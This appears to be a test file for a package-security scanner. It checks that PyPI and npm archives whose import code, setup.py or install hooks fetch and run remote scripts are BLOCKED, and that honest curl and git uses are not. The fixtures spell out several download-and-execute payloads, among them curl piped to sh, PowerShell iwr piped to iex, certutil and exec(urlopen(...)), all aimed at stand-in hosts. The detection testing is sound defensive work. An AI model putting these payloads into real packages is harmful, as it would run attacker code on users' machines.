/**
 * `shell_remote_command` (python/flow.ts with remote-run.ts): a remote script or payload fetched and run
 * by a shell or interpreter (curl | sh, wget -O- | bash, a downloaded file then run, a command string
 * fetched then evaluated), not any command that names a URL. Before pkgprec22 a literal URL in any
 * process start fired it, so a runtime helper calling an API with curl or pushing to a literal git
 * remote was BLOCKED. Here: variants of the attack in PyPI sdists and npm tarballs (runtime and install
 * time; other tools, syntax, distance between the fetch and the run) and the honest twins, which must
 * be neither BLOCKED nor CAUTION. Archives are built in memory; nothing is run.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { analyzeArchive } from '../../shared/packages/analysis/index.js';
import { packageVerdict, reviewPackage } from '../../shared/packages/lens/index.js';
import { npmTgz } from '../fixtures/archives/build.js';
import { blocked, honest } from '../support/pypi-variant-rating.js';
import { sdist } from '../support/pypi-variants-pypi22.js';

const py = (name: string, file: string, src: string) => sdist(name, { [file]: src });
const setupPy = (name: string, body: string) =>
  sdist(name, {
    'setup.py': `import os, subprocess\nfrom setuptools import setup\n${body}\nsetup(name='${name}', version='1.0.0', packages=['${name.replace(/-/g, '_')}'])\n`,
  });

// ---- PyPI ------------------------------------------------------------------------------------------------

test('PyPI: remote scripts run at import or install are BLOCKED (tools, syntax, distance)', async () => {
  await blocked(
    py('upd-a', 'upd_a/__init__.py', "import os\nos.system('curl -fsSL https://get.upd-a.example/i.sh | sh')\n"),
  );
  await blocked(
    py(
      'upd-b',
      'upd_b/__init__.py',
      "import subprocess\nsubprocess.Popen('wget -qO- http://198.51.100.5/b | sudo bash -s', shell=True)\n",
    ),
  );
  await blocked(
    py(
      'upd-c',
      'upd_c/__init__.py',
      "import subprocess\nsubprocess.run(['bash', '-c', 'eval \"$(curl -s https://c.example/x)\"'])\n",
    ),
  );
  await blocked(
    py(
      'upd-d',
      'upd_d/__init__.py',
      "import subprocess\n_P = '/tmp/.cache-d'\nsubprocess.run(['curl', '-so', _P, 'https://d.example/bin'])\nsubprocess.run(['chmod', '755', _P])\nsubprocess.Popen([_P], start_new_session=True)\n",
    ),
    'shell_remote_command',
  );
  await blocked(
    setupPy('upd-e', 'os.system(\'powershell -w hidden -c "iwr https://e.example/p.ps1 -UseBasicParsing | iex"\')'),
  );
  await blocked(
    setupPy(
      'upd-f',
      "subprocess.call('certutil -urlcache -split -f http://203.0.113.7/f.exe %TEMP%\\\\f.exe && %TEMP%\\\\f.exe', shell=True)",
    ),
  );
  await blocked(
    setupPy(
      'upd-g',
      "subprocess.call(['python3', '-c', 'import urllib.request as u; exec(u.urlopen(\"https://g.example/s\").read())'])",
    ),
  );
});

test('PyPI honest twins: API calls with curl, git pushes to a literal remote, data downloads (runtime and setup.py)', async () => {
  // Runtime functions the user calls.
  await honest(
    py(
      'gh-release',
      'gh_release/cli.py',
      "import os, subprocess\n\n\ndef release(tag):\n    subprocess.run(['curl', '-sf', '-X', 'POST', '-H', 'Authorization: token ' + os.environ['GITHUB_TOKEN'], '-d', '{\"tag_name\": \"%s\"}' % tag, 'https://api.github.com/repos/example/tool/releases'], check=True)\n    subprocess.run(['git', 'push', 'https://github.com/example/tool.git', tag], check=True)\n",
    ),
  );
  await honest(
    py(
      'status-ping',
      'status_ping/cli.py',
      "import subprocess\n\n\ndef ping(url):\n    return subprocess.check_output('curl -s -X POST https://hooks.status.example/api/v1/ping -d ok | python3 -m json.tool', shell=True)\n",
    ),
  );
  await honest(
    py(
      'geo-data',
      'geo_data/fetch.py',
      "import os\n\n\ndef fetch(dest):\n    os.system('wget -q -O ' + dest + '/cities.csv https://download.geodata.example/cities.csv')\n    os.system('curl -sL https://download.geodata.example/shapes.tar.gz -o shapes.tar.gz && tar xzf shapes.tar.gz')\n",
    ),
  );
  // At install time: a setup.py fetching a data file or cloning a helper repository runs nothing it fetched.
  await honest(
    setupPy(
      'geo-build',
      "subprocess.check_call(['git', 'clone', '--depth', '1', 'https://github.com/example/geo-helpers', 'build/helpers'])",
    ),
  );
});

test('pip installing from a URL or a git remote: BLOCKED at install or import, reported in a command the user runs', async () => {
  await blocked(setupPy('pipx-a', "os.system('pip install --quiet git+https://git.pipx-a.example/helper.git')"));
  await blocked(
    py(
      'pipx-b',
      'pipx_b/__init__.py',
      "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'https://198.51.100.3/pkg.tar.gz'])\n",
    ),
    'pip_install_remote',
  );
  // An extension installer the user runs (`tool ext install NAME`): pip of the extension's git remote, on request.
  await honest(
    py(
      'toolx',
      'toolx/cli.py',
      "import subprocess, sys\n\n\ndef install_extension(name):\n    cmd = [sys.executable, '-m', 'pip', 'install', f'git+https://github.com/toolx-ext/{name}.git']\n    subprocess.run(cmd, check=True, timeout=600)\n",
    ),
  );
});

// ---- npm -------------------------------------------------------------------------------------------------

async function npmLevel(files: Record<string, string>, scripts: Record<string, string> = {}) {
  const pkg = {
    name: 'acme-tool',
    version: '1.0.0',
    main: 'lib/index.js',
    ...(Object.keys(scripts).length > 0 ? { scripts } : {}),
  };
  const buf = npmTgz({ 'package.json': JSON.stringify(pkg), 'lib/index.js': 'module.exports = 1;\n', ...files });
  const analysis = await analyzeArchive(buf, { kind: 'tgz', registry: 'npm', registryHosts: [] });
  const level = packageVerdict(
    reviewPackage({
      registry: 'npm',
      name: 'acme-tool',
      version: '1.0.0',
      analysis,
      integrity: { ok: true, expected: '', actual: '' },
      advisories: { status: 'ok', advisories: [] },
    }),
  ).securityLevel;
  return {
    level,
    rules: analysis.findings
      .filter((f) => f.severity === 'HIGH' || f.severity === 'CRITICAL')
      .map((f) => `${f.ruleId} ${f.file}`),
  };
}

test('npm: a Python script an install hook runs that pipes a download into a shell, or runs a downloaded file, is BLOCKED', async () => {
  const a = await npmLevel(
    { 'scripts/setup.py': "import os\nos.system('curl -s https://h.example/x | bash')\n" },
    { postinstall: 'python3 scripts/setup.py' },
  );
  assert.is(a.level, 'BLOCKED', a.rules.join('; '));
  const b = await npmLevel(
    {
      'scripts/setup.py':
        "import subprocess\nsubprocess.run(['wget', '-q', 'http://198.51.100.9/a', '-O', '/tmp/.a'])\nsubprocess.Popen(['sh', '/tmp/.a'])\n",
    },
    { install: 'python scripts/setup.py' },
  );
  assert.is(b.level, 'BLOCKED', b.rules.join('; '));
});

test('npm honest twins: a Python helper that calls an API with curl or pushes to a git remote (run by a hook, or by the user)', async () => {
  const helper =
    "import subprocess\n\n\ndef main():\n    subprocess.run(['curl', '-s', '-X', 'POST', 'https://api.example.com/v1/builds', '-d', 'done'])\n    subprocess.run(['git', 'push', 'https://github.com/example/acme-tool.git', 'main'])\n\n\nmain()\n";
  // Run by postinstall: network at install time is install_script_network (MEDIUM, CAUTION by that rule), never
  // a remote script run (was BLOCKED by shell_remote_command before pkgprec22).
  const hook = await npmLevel({ 'scripts/notify.py': helper }, { postinstall: 'python3 scripts/notify.py' });
  assert.ok(
    hook.level !== 'BLOCKED' && !hook.rules.some((x) => x.startsWith('shell_remote_command')),
    `${hook.level} (${hook.rules.join('; ')})`,
  );
  // Run by a script the user runs, or a module nothing runs at install: neither BLOCKED nor CAUTION.
  for (const [files, scripts] of [
    [{ 'tools/notify.py': helper }, { release: 'python3 tools/notify.py' }],
    [{ 'lib/report.py': helper.replace('\n\nmain()\n', '\n') }, {}],
  ] as [Record<string, string>, Record<string, string>][]) {
    const r = await npmLevel(files, scripts);
    assert.ok(
      r.level !== 'BLOCKED' && r.level !== 'CAUTION',
      `${Object.keys(files)[0]}: ${r.level} (${r.rules.join('; ')})`,
    );
  }
});

test.run();
